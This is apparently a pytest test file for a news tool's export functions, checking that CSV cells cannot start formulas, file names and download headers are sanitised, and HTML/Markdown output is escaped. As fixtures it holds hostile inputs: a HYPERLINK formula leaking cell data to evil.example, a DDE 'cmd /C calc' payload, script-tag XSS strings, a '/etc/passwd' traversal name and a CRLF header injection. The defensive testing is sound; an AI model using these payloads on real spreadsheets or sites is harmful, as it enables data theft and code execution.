"""The download renderers: CSV a spreadsheet cannot be made to run, safe file names, and the
same brief or timeline whether it comes as built or as its JSON view."""

from __future__ import annotations

import csv
import io
import json
import re

from hypothesis import given
from hypothesis import strategies as st

from storyline.export import (
    EVENT_FORMATS,
    EVENT_LIST_COLUMNS,
    TIMELINE_FORMATS,
    attachment,
    csv_table,
    event_list_csv,
    file_name,
    timeline_csv,
)
from storyline.summarize.brief import Brief
from storyline.summarize.timeline import Timeline, TimelineEntry, TimelineSentence

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SAFE_NAME = re.compile(r"[A-Za-z0-9][A-Za-z0-9._-]*\.[a-z]+")


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def timeline() -> Timeline:
    return Timeline("Port <b>Alvane</b>", [
        TimelineEntry("2026-02-10", [
            TimelineSentence(HOSTILE, "a1", "Harbour Herald"),
            TimelineSentence("Talks resume, the union said.", "a2", None),
        ]),
        TimelineEntry("2026-02-12", [TimelineSentence("@SUM(1+1)*cmd|' /C calc'!A0", "a3", "+Wire")]),
    ])


def test_formula_cells_are_quoted_and_text_survives() -> None:
    rows = read_csv(timeline_csv(timeline()))
    assert rows[0] == ["date", "rank", "text", "outlet", "article"]
    assert rows[1] == ["2026-02-10", "1", "'" + HOSTILE, "Harbour Herald", "a1"]
    assert rows[2][1:4] == ["2", "Talks resume, the union said.", ""]
    assert rows[3][2:4] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'+Wire"]


@given(st.lists(st.lists(st.text(max_size=30), min_size=3, max_size=3), max_size=5))
def test_no_csv_cell_can_start_a_formula(rows: list[list[str]]) -> None:
    parsed = read_csv(csv_table(["a", "b", "c"], rows))
    assert len(parsed) == len(rows) + 1
    for written, read in zip(rows, parsed[1:], strict=True):
        for original, cell in zip(written, read, strict=True):
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
            assert cell in (original, "'" + original)


def test_event_list_csv_columns() -> None:
    event = {"id": "ev-1", "date": None, "title": "-2 degrees in Tessaly", "place": None,
             "articles": ["a", "b", "c"], "outlets": ["Le Phare", "Nordblatt"],
             "languages": ["fr", "de"], "independent_outlets": 2, "entities": []}
    header, row = read_csv(event_list_csv([event]))
    assert tuple(header) == EVENT_LIST_COLUMNS
    assert row == ["ev-1", "", "'-2 degrees in Tessaly", "", "3", "2", "2", "fr; de",
                   "Le Phare; Nordblatt"]


def test_brief_renders_the_same_from_its_json_view() -> None:
    brief = Brief(id="ev-1", title="<script>alert(1)</script>", date="2026-02-10", place=None,
                  summary=[{"text": "Docks <img src=x> closed.", "article": "a1", "outlet": "X"}])
    view = json.loads(json.dumps(brief.to_dict()))
    for name, chosen in EVENT_FORMATS.items():
        assert chosen.render(brief) == chosen.render(view), name
    assert "<script>" not in EVENT_FORMATS["html"].render(view)
    assert "&lt;script&gt;" in EVENT_FORMATS["html"].render(view)
    assert "<img" not in EVENT_FORMATS["md"].render(view)
    assert json.loads(EVENT_FORMATS["json"].render(view)) == brief.to_dict()


def test_timeline_formats_from_either_form() -> None:
    built = timeline()
    view = json.loads(json.dumps(built.to_dict()))
    for name, chosen in TIMELINE_FORMATS.items():
        assert chosen.render(built) == chosen.render(view), name
    markdown = TIMELINE_FORMATS["md"].render(view)
    assert markdown.startswith("# Timeline: Port &lt;b&gt;Alvane&lt;/b&gt;\n")
    assert "## 2026-02-12" in markdown


def test_file_names_keep_only_safe_characters() -> None:
    assert file_name("event", "Grève au port d'Alvane", "ev-1", extension="md") == (
        "event-Greve-au-port-d-Alvane-ev-1.md")
    assert file_name("..", "/etc/passwd", extension="csv") == "etc-passwd.csv"
    assert file_name("Пожар", extension="json") == "storyline.json"
    header = attachment("event", 'a"b\r\nX-Injected: 1', extension="html")
    assert header == 'attachment; filename="event-a-b-X-Injected-1.html"'


@given(st.lists(st.text(max_size=120), max_size=4))
def test_any_title_gives_a_safe_bounded_name(parts: list[str]) -> None:
    name = file_name(*parts, extension="csv")
    assert SAFE_NAME.fullmatch(name), name
    assert len(name) <= 84


def test_event_files_carry_the_claim_matrix_escaped() -> None:
    brief = Brief(
        id="ev-2", title="Bridge", date=None, place=None,
        publishers=[{"name": "A|B <i>", "label": "A|B <i>", "articles": ["a1"]},
                    {"name": "Wire", "label": "Wire", "articles": ["w1"]}],
        corroborated=[{"text": "The bridge | closed <script>.", "article": "a1", "outlet": "A",
                       "outlets": ["A", "Wire"], "sources": 2,
                       "versions": [{"text": "The bridge closed.", "article": "w1",
                                     "outlet": "Wire", "language": "en"}]}],
        conflicts=[{"reports": [
            {"text": "Four people died.", "article": "a1", "outlet": "A", "language": "en"},
            {"text": "Six people died.", "article": "w1", "outlet": "Wire", "language": "en"}]}],
    )
    markdown = EVENT_FORMATS["md"].render(brief)
    table = markdown.split("## Who reports what\n\n")[1].split("\n\n")[0].splitlines()
    assert table[0] == "| claim | A\\|B &lt;i&gt; | Wire |"
    assert table[2] == "| The bridge \\| closed &lt;script&gt;. | ● | ● |"
    assert table[3] == "| **figures differ:** Four people died. | 4 | 6 |"
    html = EVENT_FORMATS["html"].render(brief)
    assert "<h2>Who reports what</h2>" in html and "<mark>6</mark>" in html
    assert "<script>" not in html and "<i>" not in html
